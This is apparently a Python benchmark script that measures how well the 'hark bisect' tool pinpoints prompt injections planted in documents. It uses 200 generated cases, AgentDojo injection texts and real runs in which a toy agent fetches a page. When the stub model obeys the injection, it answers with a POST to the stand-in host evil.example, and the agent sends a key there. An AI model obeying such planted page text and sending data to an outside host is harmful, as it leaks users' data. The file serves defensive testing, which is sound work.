"""How well `hark bisect` finds what was planted, and in how many runs: writes the tables of docs/bisect.md.

    python -m tests.bench.bench_bisect [--forks N] [--only-forks] [--write]

Three parts. 200 documents with planted instructions, searched by the bisection itself with a stub in the
place of forks: it reads what is left of the texts, no process is started, and the patch that was found is
made at the end. AgentDojo's injection texts likewise, where `make .injections/.done` has fetched them. And N
documents through real forks: an agent, a server and a stub model, recorded and bisected by the installed
program, once each. All is drawn from one seed; nothing is asserted. The page is written by one command that
makes all of it, and not at all where a part is missing.
"""

import argparse
import json
import os
import random
import re
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from hark.bisect import bisecting
from hark.bisect.bisecting import Bisection, Outcome, Suspect
from hark.bisect.counting import Rule, Shown
from hark.bisect.ddmin import ddmin, probable
from hark.bisect.driver import Done, Driver, Job, Question
from hark.bisect.message import Unit
from hark.bisect.removal import removal
from hark.bisect.units import Level
from hark.patch.changing import Changing
from hark.patch.model import parse_patch
from hark.patch.where import Point, Side
from tests.bench import dojo, planted
from tests.bench.planted import Case, Shape
from tests.fakes.upstream import Call, serving

SEED: Final = 20_260
CASES: Final = 200
TRIALS: Final = 6
"""Of each question, where the stub obeys in 80 of 100 runs: by chance it is not seen 1 time in 15 000."""
PAGE: Final = Path(__file__).resolve().parents[2] / "docs" / "bisect.md"
BEGIN, END = "<!-- measured -->", "<!-- /measured -->"
_POINT: Final = Point(16, 15, Side.RESPONSE, "GET page.example/today (event 15)")
WORKERS: Final = 2
SEARCHES: Final[dict[str, Callable[..., Any]]] = {"ddmin": ddmin, "probable": probable}
PLANS: Final = tuple((finest, search) for finest in (Level.SENTENCE, Level.WORD) for search in SEARCHES)


class Stubbed(Bisection):
    """A bisection whose questions are units, and no patches: one is made at the end."""

    def _removing(self, suspect: Suspect, units: Sequence[Unit], words: str) -> Question:
        key = json.dumps(sorted(units)).encode()
        runner = self.driver.runner
        assert isinstance(runner, Oracle)
        runner.units[key] = tuple(units)
        return Question(suspect.point.at, key)


class Oracle:
    """A Runner without processes: reads what is left of the texts, and obeys it as often as the stub does."""

    def __init__(self, case: Case) -> None:
        self._case = case
        self._message = case.message
        self._draws = random.Random(f"obeys/{case.number}")
        self._waiting: list[Job] = []
        self._obeyed: dict[bytes, bool] = {}
        self.units: dict[bytes, tuple[Unit, ...]] = {b"": ()}

    def begin(self, job: Job) -> None:
        self._waiting.append(job)

    def ended(self) -> Done:
        question, trial = self._waiting.pop(0)
        if question.patch not in self._obeyed:
            self._obeyed[question.patch] = self._case.is_obeyed(self._left(self.units[question.patch]))
        seen = self._obeyed[question.patch] and self._draws.random() < self._case.rate
        return Done(question.key, trial, Shown.SEEN if seen else Shown.GONE)

    def drop(self) -> None:
        self._waiting.clear()

    def _left(self, units: Iterable[Unit]) -> str:
        """Return what a reader is left with."""
        gone: dict[int, list[Unit]] = {}
        for run in self._message.runs(units):
            gone.setdefault(run.leaf, []).append(run)
        texts = []
        for number, leaf in enumerate(self._message.leaves):
            at = 0
            for run in gone.get(number, ()):
                texts.append(leaf.text[at : run.start])
                at = run.end
            texts.append(f"{leaf.text[at:]} ")
        return " ".join("".join(texts).split())


def obeyed_after(case: Case, patch: bytes) -> bool:
    """Make the patch that was found, and tell whether what it leaves is obeyed."""
    message = case.message
    changing = Changing(message.headers, [message.body], status=200)
    changing.run(parse_patch(patch))
    return case.obeyed(changing.body)


@dataclass(frozen=True)
class Score:
    """How one case went."""

    case: Case
    word: str
    precision: float
    """Of the words that were found, the share that was planted."""
    recall: float
    """Of the words of the planted spans that were hit, the share that was found."""
    hit: float
    """Of the spans that have to go, the share that was hit."""
    runs: int
    questions: int
    bound: int
    """Of questions: n^2 + 3n of each level, and those around the search."""

    @property
    def is_right(self) -> bool:
        """It was found, and nothing else: all spans that have to go, and no word beside them."""
        return self.word == bisecting.FOUND and self.hit == 1 and self.precision == 1


def searched(case: Case, search: str, finest: Level) -> Score:
    """Bisect one case with the stub."""
    rule = Rule(TRIALS) if case.rate < 1 else Rule()
    suspect = Suspect(_POINT, case.message)
    driver = Driver(Oracle(case), lambda _: None, 1, 1_000_000)
    bisection = Stubbed(driver, rule, finest, SEARCHES[search], "")
    outcome = bisection.run([suspect], b"%d" % case.number)
    stretches = [] if outcome.narrowing is None else _stretches(outcome)
    if outcome.word == bisecting.FOUND and obeyed_after(case, removal(suspect.message, outcome.units)):
        outcome.word = "the patch leaves it"
    return scored(case, outcome.word, stretches, outcome.runs, len(driver.tallies), outcome)


def _stretches(outcome: Outcome) -> list[tuple[str, int, int]]:
    assert outcome.suspect is not None
    message = outcome.suspect.message
    return [(message.leaves[run.leaf].text, run.start, run.end) for run in message.runs(outcome.units)]


def scored(
    case: Case,
    word: str,
    stretches: Iterable[tuple[str, int, int]],
    runs: int,
    questions: int,
    outcome: Outcome | None = None,
) -> Score:
    """Hold what was found against what was planted, word by word."""
    found: set[tuple[str, int]] = set()
    for text, start, end in stretches:
        found |= {(text, at) for at in _words(text, start, end)}
    spans = [_planted(case, span) for span in case.spans]
    every = set().union(*spans, *(_planted(case, text) for text in case.around))
    hits = [span for span in spans if span & found]
    wanted = 1 if case.shape is Shape.TOGETHER else len(spans)
    among = (
        [] if outcome is None or outcome.narrowing is None else [one.among for one in outcome.narrowing.found]
    )
    hit_words = set().union(*hits) if hits else set()
    return Score(
        case,
        word,
        len(found & every) / len(found) if found else 0.0,
        len(found & hit_words) / len(hit_words) if hit_words else 0.0,
        min(len(hits), wanted) / wanted,
        runs,
        questions,
        sum(count * count + 3 * count for count in among) + 4,
    )


_WORD: Final = re.compile(r"[^\s<>]+")
"""A word as it is counted: markup is none, whatever stands beside it."""


def _words(text: str, start: int, end: int) -> Iterator[int]:
    return (word.start() for word in _WORD.finditer(text) if start <= word.start() < end)


def _planted(case: Case, span: str) -> set[tuple[str, int]]:
    """Where the words of a planted span stand."""
    pattern = re.compile(r"\s+".join(map(re.escape, span.split())))
    return {
        (leaf.text, at)
        for leaf in case.message.leaves
        for place in pattern.finditer(leaf.text)
        for at in _words(leaf.text, place.start(), place.end())
    }


HEAD: Final = (
    "| what | search | cases | found | exactly | precision | recall | hit | questions | of bound | runs |\n"
    "| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |"
)


def row(what: str, search: str, scores: Sequence[Score]) -> str:
    """One line of the table."""
    found = [one for one in scores if one.word == bisecting.FOUND]
    shares = [
        statistics.fmean(getattr(one, name) for one in scores) for name in ("precision", "recall", "hit")
    ]
    asked = sorted(one.questions for one in scores)
    part = statistics.median(one.questions / one.bound for one in scores)
    runs = sorted(one.runs for one in scores)
    exactly = sum(one.is_right for one in scores)
    return (
        f"| {what} | {search} | {len(scores)} | {len(found)} | {exactly} | "
        + " | ".join(f"{share:.3f}" for share in shares)
        + f" | {statistics.median(asked):.0f} (most {asked[-1]}) | {part:.1%} | "
        f"{statistics.median(runs):.0f} (most {runs[-1]}) |"
    )


def misses(scores: Sequence[Score]) -> str:
    """Name what was not found exactly: the case, and its precision, or its verdict."""
    named = [
        f"{one.case.number} ({one.precision:.2f})"
        if one.word == bisecting.FOUND and one.hit == 1
        else f"{one.case.number} ({one.word}, {one.hit:.1f} hit)"
        for one in scores
        if not one.is_right
    ]
    return f"{len(named)}: {', '.join(named)}" if named else "none"


def _all(made: Sequence[Case], search: str, finest: Level) -> list[Score]:
    with ProcessPoolExecutor(WORKERS) as pool:
        return list(pool.map(searched, made, [search] * len(made), [finest] * len(made), chunksize=4))


def stubbed() -> Iterator[str]:
    """The first two parts."""
    made = list(planted.cases(CASES, SEED))
    yield f"### {CASES} planted documents, a stub in the place of forks\n"
    yield HEAD
    missed: dict[str, str] = {}
    for finest, search in PLANS:
        scores = _all(made, search, finest)
        for shape in planted.THIRDS:
            some = [one for one in scores if one.case.shape is shape]
            yield row(f"{shape.value}, by {finest.value}", search, some)
        yield row(f"all, by {finest.value}", search, scores)
        missed[f"{search}, by {finest.value}"] = misses(scores)
    yield from _missed(missed)
    if not dojo.is_there():
        yield "AgentDojo was not there: `make .injections/.done` fetches it.\n"
        return
    yield from _dojo()


def _dojo() -> Iterator[str]:
    made = list(dojo.cases())
    yield f"### AgentDojo: {len(made)} injections in its own documents, a stub in the place of forks\n"
    yield HEAD
    missed: dict[str, str] = {}
    for search in SEARCHES:
        scores = _all(made, search, Level.SENTENCE)
        yield row("a goal in a frame, by sentence", search, scores)
        missed[search] = misses(scores)
    yield from _missed(missed)


def _missed(missed: dict[str, str]) -> Iterator[str]:
    yield ""
    yield "Not exactly the planted words, by the number of the case and its precision:"
    yield ""
    yield from (f"- {search}: {cases}" for search, cases in missed.items())
    yield ""


AGENT: Final = """
import json, urllib.request

def ask(url, body=None):
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, {"Content-Type": "application/json"})
    with urllib.request.urlopen(request) as answer:
        return answer.read().decode()

page = ask("https://page.example/today")
prompt = {"model": "m", "messages": [{"role": "user", "content": page}]}
said = json.loads(ask("https://api.example/v1/chat/completions", prompt))["choices"][0]["message"]["content"]
if said.startswith("POST "):
    try:
        ask(said.split()[1], {"key": 1})
    except OSError:
        pass
"""
HOSTS: Final = ("page.example", "api.example")


def forked(count: int) -> Iterator[str]:
    """The third part: the installed program, real forks, a real server."""
    yield f"### {count} planted documents, real forks\n"
    yield HEAD
    scores, seconds, loads = [], [], []
    for case in planted.cases(count, SEED + 1, small=True):
        began = time.monotonic()
        scores.append(_through_forks(case))
        seconds.append(time.monotonic() - began)
        loads.append(os.getloadavg()[0])
        print(
            f"  case {case.number}: {scores[-1].word}, {scores[-1].runs} runs, {seconds[-1]:.0f} s",
            flush=True,
        )
    yield row("all, by sentence", "ddmin", scores)
    yield ""
    runs = sum(one.runs for one in scores)
    yield (
        f"{runs} forks in {sum(seconds):.0f} s, two side by side, recording included: "
        f"{sum(seconds) / runs:.1f} s each, on {os.cpu_count()} processors at a load of "
        f"{min(loads):.0f} to {max(loads):.0f}.\n"
    )
    yield f"Not exactly the planted words: {misses(scores)}"
    yield ""


def _through_forks(case: Case) -> Score:
    draws = random.Random(f"real/{case.number}")
    with tempfile.TemporaryDirectory(prefix="hark-bench-") as name, serving(*HOSTS) as served:
        folder = Path(name)
        folder.chmod(0o755)
        obeys = {"always": True}

        @served.on("/today")
        def today(call: Call) -> None:
            call.reply(200, case.body, [("Content-Type", case.form.value)])

        @served.on("/v1/chat/completions")
        def chat(call: Call) -> None:
            page = json.loads(call.body)["messages"][0]["content"].encode()
            obeyed = case.obeyed(page) and (obeys["always"] or draws.random() < case.rate)
            said = "POST https://evil.example/in" if obeyed else "Nothing."
            answer = {"choices": [{"message": {"role": "assistant", "content": said}}]}
            call.reply(200, json.dumps(answer).encode(), [("Content-Type", "application/json")])

        where = _desk(folder, served.ca_pem, served.address)
        _hark(folder, "run", *where, "-o", "../run.hark", "--", "python3", "agent.py")
        obeys["always"] = False
        words = ["bisect", "-json", "-at", "page.example/today", "-until", "denied host=evil.example", *where]
        words += ["-trials", str(TRIALS if case.rate < 1 else 1), "-max-runs", "1000", "-o", "../found"]
        told = json.loads(_hark(folder, *words, "../run.hark"))
        keys = {
            json.loads(line)["key"] for line in (folder / "found" / "runs.jsonl").read_text().splitlines()
        }
        score = scored(case, told["verdict"], _told_stretches(case, told), told["runs"], len(keys))
        among = [level["among"] for level in told["levels"]]
        return Score(**{**score.__dict__, "bound": sum(one * one + 3 * one for one in among) + 4})


def _told_stretches(case: Case, told: dict[str, Any]) -> Iterator[tuple[str, int, int]]:
    for span in told["spans"]:
        for leaf in case.message.leaves:
            place = leaf.places[0]
            if (place.words, place.pointer) == (span["where"], span["pointer"]):
                start = leaf.text.find(span["text"])
                yield leaf.text, start, start + len(span["text"])


def _desk(folder: Path, ca_pem: bytes, address: str) -> list[str]:
    project = folder / "project"
    project.mkdir()
    (project / "agent.py").write_text(AGENT)
    (project / "policy.toml").write_text(f"allow_hosts = {json.dumps(HOSTS)}\n")
    (folder / "ca.pem").write_bytes(ca_pem)
    ways = [f"-upstream={host}={address}" for host in HOSTS]
    return ["-policy=policy.toml", f"-upstream-ca={folder}/ca.pem", *ways]


def _hark(folder: Path, *words: str) -> str:
    env = os.environ | {"XDG_CONFIG_HOME": f"{folder}/config", "XDG_STATE_HOME": f"{folder}/state"}
    ended = subprocess.run(
        (sys.executable, "-m", "hark.cli.main", *words),
        cwd=folder / "project",
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    if ended.returncode and not ended.stdout:
        sys.exit(f"bench: hark {words[0]} ended with {ended.returncode}: {ended.stderr}")
    return ended.stdout


def main() -> None:
    """Measure, print, and write the page where that is asked for."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--forks", type=int, default=12, help="documents that go through real forks")
    parser.add_argument("--only-forks", action="store_true", help="nothing with a stub in their place")
    parser.add_argument("--write", action="store_true", help=f"write {PAGE.name}")
    given = parser.parse_args()
    if given.write and (given.only_forks or not given.forks or not dojo.is_there()):
        parser.error(
            f"{PAGE.name} has all three parts: fetch AgentDojo (`make .injections/.done`), leave none out"
        )
    lines = []
    for part in (() if given.only_forks else stubbed(), forked(given.forks) if given.forks else ()):
        for line in part:
            print(line, flush=True)
            lines.append(line)
    if given.write:
        text = PAGE.read_text()
        before, after = text.partition(BEGIN)[0], text.partition(END)[2]
        PAGE.write_text(f"{before}{BEGIN}\n\n{'\n'.join(lines).strip()}\n\n{END}{after}")


if __name__ == "__main__":
    main()
